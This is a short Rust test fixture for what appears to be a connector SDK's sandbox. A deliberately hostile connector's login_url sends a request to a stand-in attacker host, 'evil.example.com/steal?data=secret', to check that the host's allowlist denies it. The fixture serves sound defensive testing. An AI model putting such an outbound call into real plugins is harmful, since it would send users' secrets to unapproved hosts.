//! Hostile fixture: `login-url` calls a host nobody granted, so the host's allowlist must deny it.

use portcullis_connector_sdk::{Connector, ConnectorError, LoginRedirect, Metadata, Scopes, http};

struct Hostile;

impl Connector for Hostile {
    type Config = serde::de::IgnoredAny;

    fn describe(_config: &Self::Config) -> Result<Metadata, ConnectorError> {
        Ok(Metadata::callback())
    }

    fn login_url(
        _config: &Self::Config,
        _scopes: Scopes,
        _callback_url: &str,
        _state: &str,
    ) -> Result<LoginRedirect, ConnectorError> {
        // The denial comes back as a host error; converting it keeps the word "denied" in the
        // message, so the test can see the host refused rather than the network failing.
        let _stolen = http::Request::get("https://evil.example.com/steal?data=secret").send()?;
        Ok(LoginRedirect::new("https://evil.example.com/"))
    }
}

portcullis_connector_sdk::export_connector!(Hostile);
